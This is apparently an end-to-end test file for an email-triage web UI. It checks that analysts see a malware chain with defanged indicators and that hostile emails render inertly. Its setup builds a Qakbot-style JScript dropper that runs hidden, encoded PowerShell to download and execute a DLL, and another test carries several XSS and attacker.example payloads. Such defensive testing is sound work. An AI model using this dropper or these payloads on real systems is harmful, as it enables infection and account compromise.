// The analysts' UI in a real browser: log in, drop a generated Qakbot-style email on the queue, watch it
// finish, see the chain, the artifact tree and the defanged IOCs, decide; and a hostile email whose subject,
// sender, body and HTML carry script shows all of it as text and runs nothing. A screenshot of the report
// page is saved under test-output/.

import assert from 'node:assert/strict';
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { defaultConfig } from '../src/config.ts';
import { qakbotLure } from './generators/email.ts';
import { startPayloadServer, type PayloadServer } from './generators/payload-server.ts';
import { makeZip } from './generators/zip.ts';
import { launchBrowser } from './helpers/browser.ts';
import { call, rfc822, startTestService, submitEmail, waitFor, type TestService } from './helpers/service.ts';

const OUTPUT = join(import.meta.dirname, '..', 'test-output');
let svc: TestService;
let payloads: PayloadServer;
let browser: Browser;
let analystToken: string;

before(async () => {
  // The lure's link serves a password ZIP with a JScript dropper, as Qakbot's compromised sites did.
  const ps = Buffer.from("$c=New-Object Net.WebClient;$c.DownloadFile('http://198.51.100.7/tmp/x.dat','C:\\ProgramData\\x.dll');Start-Process rundll32 'C:\\ProgramData\\x.dll,Run'", 'utf16le').toString('base64');
  const js = `var sh = new ActiveXObject("WScript.Shell");\nsh.Run("powershell -nop -w hidden -enc ${ps}", 0);\n`;
  payloads = await startPayloadServer({ '/wp-content/uploads/Invoice_4411.zip': { body: await makeZip([{ name: 'Invoice_4411.js', data: js }], { password: 'Inv4411' }), type: 'application/zip' } });
  const config = defaultConfig();
  config.fetch.mode = 'live';
  config.fetch.allowHosts.push('127.0.0.1');
  // The hostile mail's links point at attacker.example: pin it to loopback so no test ever asks real DNS.
  config.fetch.resolve['attacker.example'] = '127.0.0.1';
  svc = await startTestService({ config });
  analystToken = await svc.addUser('sam', 'analyst');
  browser = await launchBrowser();
  await mkdir(OUTPUT, { recursive: true });
});
after(async () => {
  await browser?.close();
  await svc?.stop();
  await payloads?.close();
});

/** A page that records dialogs and every request that leaves the service's origin. */
async function openPage(): Promise<{ page: Page; dialogs: string[]; foreign: string[] }> {
  const page = await browser.newPage({ viewport: { width: 1280, height: 1000 } });
  const dialogs: string[] = [];
  const foreign: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('request', (r) => {
    if (!r.url().startsWith(svc.url) && !r.url().startsWith('data:') && r.url() !== 'about:srcdoc') foreign.push(r.url());
  });
  return { page, dialogs, foreign };
}

async function logIn(page: Page, name: string, token: string) {
  await page.goto(svc.url);
  await page.fill('#login input[name=name]', name);
  await page.fill('#login input[name=token]', token);
  await page.click('#login button[type=submit]');
  await page.waitForSelector('#drop');
}

test('log in, drop a Qakbot-style email, watch it finish, see the chain and the IOCs, decide', { timeout: 90_000 }, async () => {
  const { page, foreign } = await openPage();
  await page.goto(svc.url);
  await page.fill('#login input[name=name]', 'sam');
  await page.fill('#login input[name=token]', 'tbx_wrong');
  await page.click('#login button[type=submit]');
  await page.waitForSelector('#login .error:has-text("wrong name or token")');
  await logIn(page, 'sam', analystToken);

  const url = payloads.url('/wp-content/uploads/Invoice_4411.zip');
  const lure = qakbotLure({ url });
  const dataTransfer = await page.evaluateHandle((text) => {
    const dt = new DataTransfer();
    dt.items.add(new File([text], 'Invoice 4411.eml', { type: 'message/rfc822' }));
    return dt;
  }, lure);
  await page.dispatchEvent('#drop', 'drop', { dataTransfer });

  await page.waitForURL(/#\/report\//);
  await page.waitForSelector('#status:has-text("Status: done")', { timeout: 60_000 });
  assert.equal(await page.textContent('#subject'), 'RE: Invoice #4411 past due');
  const chain = (await page.textContent('#chain')) ?? '';
  for (const step of ['email', 'ZIP', 'JScript', 'powershell']) assert.ok(chain.includes(step), `chain line "${chain}" shows ${step}`);
  assert.match((await page.textContent('.verdict .badge')) ?? '', /malicious/);

  // The tree: the ZIP is drawn under the link it came from, the script under the ZIP.
  const zipParent = await page.$eval('#artifact-tree li:has(> .artifact .kind:text-is("zip"))', (li) => li.parentElement?.closest('li')?.querySelector('.kind')?.textContent);
  assert.equal(zipParent, 'url');
  assert.equal(await page.locator('#artifact-tree li:has(> .artifact .kind:text-is("zip")) li .kind:text-is("jscript")').count(), 1);

  const iocs = await page.$$eval('#iocs code.ioc', (els) => els.map((e) => e.textContent));
  const defangedLure = url.replace('http://', 'hxxp[://]').replaceAll('.', '[.]');
  assert.ok(iocs.includes(defangedLure), `IOCs show ${defangedLure}`);
  assert.ok(iocs.includes('hxxp[://]198[.]51[.]100[.]7/tmp/x[.]dat'));
  assert.ok(!(await page.locator('#iocs a').count()), 'no IOC is a link');
  assert.equal(await page.locator('#iocs button.copy').count(), iocs.length);
  assert.ok((await page.textContent('#passwords')) ?? ''.includes('Inv4411'));
  assert.equal(await page.getAttribute('#email-frame', 'sandbox'), '');
  assert.ok(((await page.textContent('#headers')) ?? '').includes('hoffmann-logistik.example'));

  const frame = page.frames().find((f) => f.url().endsWith('/email'));
  assert.ok(frame, 'the email is shown in its frame');
  await frame.waitForSelector('pre');
  assert.match((await frame.textContent('pre')) ?? '', /Please see the overdue invoice below/);
  await page.screenshot({ path: join(OUTPUT, 'ui-report.png'), fullPage: true });
  await page.locator('#email-frame').screenshot({ path: join(OUTPUT, 'ui-report-email.png') });

  await page.selectOption('#decision select[name=verdict]', 'malicious');
  await page.fill('#decision textarea[name=note]', 'Qakbot: invoice lure, ZIP + JScript');
  await page.click('#decision button[type=submit]');
  await page.waitForSelector('#decided:has-text("by sam")');
  assert.deepEqual(foreign, [], 'the UI loaded nothing from anywhere else');
  await page.close();
});

test('a hostile email shows its script as text and runs nothing', { timeout: 60_000 }, async () => {
  const hostileSubject = '<script>alert("subject")</script><img src=x onerror=alert("subject-img")>';
  const hostile = rfc822({
    from: '"<img src=x onerror=alert(\'from\')>" <evil@attacker.example>',
    subject: hostileSubject,
    messageId: '<hostile-1@attacker.example>',
    text: '<script>alert("text")</script> click http://attacker.example/x',
    html: '<html><head><meta http-equiv="refresh" content="0;url=http://attacker.example/r"><base href="http://attacker.example/"></head><body><script>parent.alert("html")</script><img src="http://attacker.example/pixel.gif" onerror="parent.alert(\'img\')"><a href="javascript:alert(1)">x</a><iframe src="http://attacker.example/f"></iframe><p style="background:url(http://attacker.example/bg.png)">Pay now</p></body></html>',
  });
  const { json } = await submitEmail(svc.url, analystToken, hostile);
  await waitFor(svc.url, analystToken, json.id);

  const { page, dialogs, foreign } = await openPage();
  await logIn(page, 'sam', analystToken);
  const queueRow = page.locator(`#queue-rows a[href="#/report/${json.id}"]`);
  await queueRow.waitFor();
  assert.equal(await queueRow.textContent(), hostileSubject);
  await queueRow.click();
  await page.waitForSelector('#status:has-text("Status: done")');
  await page.waitForSelector('#email-frame');
  await page.waitForTimeout(1500); // time for anything that would run or load to do so

  assert.equal(await page.textContent('#subject'), hostileSubject);
  assert.ok(((await page.textContent('#email-head')) ?? '').includes('<img src=x onerror=alert('));
  assert.deepEqual(dialogs, [], 'no script from the email ran');
  assert.deepEqual(foreign, [], 'nothing was loaded from the attacker');
  assert.equal(await page.evaluate(() => document.querySelectorAll('script').length), 1, 'only the app script is on the page');
  assert.equal(await page.evaluate(() => document.querySelectorAll('#main img').length), 0);
  const frame = page.frames().find((f) => f.url().endsWith(`/api/reports/${json.id}/email`));
  assert.ok(frame, 'the email is rendered in its frame');
  assert.match((await frame.textContent('body')) ?? '', /Pay now/);
  assert.equal(await frame.evaluate(() => document.querySelectorAll('script, meta[http-equiv], base').length), 0);
  assert.ok(page.url().startsWith(svc.url), 'the page was not navigated away');
  await page.screenshot({ path: join(OUTPUT, 'ui-hostile.png'), fullPage: true });
  await page.close();
});

test('a reporter sees only their own reports, with no decision form and no raw download', { timeout: 60_000 }, async () => {
  const rita = await svc.addUser('rita', 'reporter', 'rita@corp.example');
  const mine = await submitEmail(svc.url, rita, rfc822({ subject: 'Rita saw this', messageId: '<rita-1@x.example>' }));
  await submitEmail(svc.url, analystToken, rfc822({ subject: 'Someone else saw this', messageId: '<other-1@x.example>' }));
  await waitFor(svc.url, rita, mine.json.id);

  const { page } = await openPage();
  await logIn(page, 'rita', rita);
  await page.waitForSelector(`#queue-rows a[href="#/report/${mine.json.id}"]`);
  assert.equal(await page.textContent('main h1'), 'My reports');
  const subjects = await page.$$eval('#queue-rows a', (as) => as.map((a) => a.textContent));
  assert.deepEqual(subjects, ['Rita saw this']);
  await page.click(`#queue-rows a[href="#/report/${mine.json.id}"]`);
  await page.waitForSelector('#status:has-text("Status: done")');
  assert.equal(await page.locator('#decision').count(), 0);
  assert.equal(await page.locator('a[href$="/raw"]').count(), 0);
  await page.close();
});

test('campaigns: two variants of a lure are one campaign in the Campaigns view and on each report page', { timeout: 90_000 }, async () => {
  const url = payloads.url('/wp-content/uploads/Invoice_4411.zip');
  const ids: string[] = [];
  for (const [n, to] of ['Kim', 'Lee'].entries()) {
    const mail = qakbotLure({ url, to: { name: to, address: `${to.toLowerCase()}@corp.example` }, subject: `RE: Invoice #90${n} past due`, messageId: `<variant-${n}@hoffmann-logistik.example>` });
    const { json } = await submitEmail(svc.url, analystToken, mail);
    await waitFor(svc.url, analystToken, json.id);
    ids.push(json.id);
  }
  const { page, foreign } = await openPage();
  await logIn(page, 'sam', analystToken);
  await page.click('#nav-campaigns');
  const { json: report } = await call(svc.url, 'GET', `/api/reports/${ids[0]}`, { token: analystToken });
  assert.ok(report.campaign.members.includes(ids[1]), 'the API put both variants in one campaign');
  const row = page.locator(`#campaign-rows tr[data-campaign="${report.campaign.id}"]`);
  await row.waitFor();
  assert.ok(Number(await row.locator('td.num').textContent()) >= 2);
  const shared = await row.locator('code.ioc').allTextContents();
  assert.ok(shared.length > 0 && shared.every((s) => !/https?:\/\//.test(s) && !/\w\.\w/.test(s)), `shared indicators defanged: ${shared}`);
  assert.ok(!(await page.locator('#campaigns code.ioc a').count()), 'no indicator is a link');
  await page.screenshot({ path: join(OUTPUT, 'ui-campaigns.png'), fullPage: true });

  await page.goto(`${svc.url}/#/report/${ids[0]}`);
  await page.waitForSelector('#campaign-summary');
  assert.match((await page.textContent('#campaign-summary')) ?? '', /other reports? shares? this campaign/);
  await page.click(`#campaign-reports a[href="#/report/${ids[1]}"]`);
  await page.waitForSelector(`#campaign-reports a[href="#/report/${ids[0]}"]`);
  assert.ok(((await page.textContent('#campaign-ties')) ?? '').includes('sender+subject:l[.]becker[@]hoffmann-logistik[.]example'));
  assert.deepEqual(foreign, []);
  await page.screenshot({ path: join(OUTPUT, 'ui-campaign.png'), fullPage: true });
  await page.close();
});
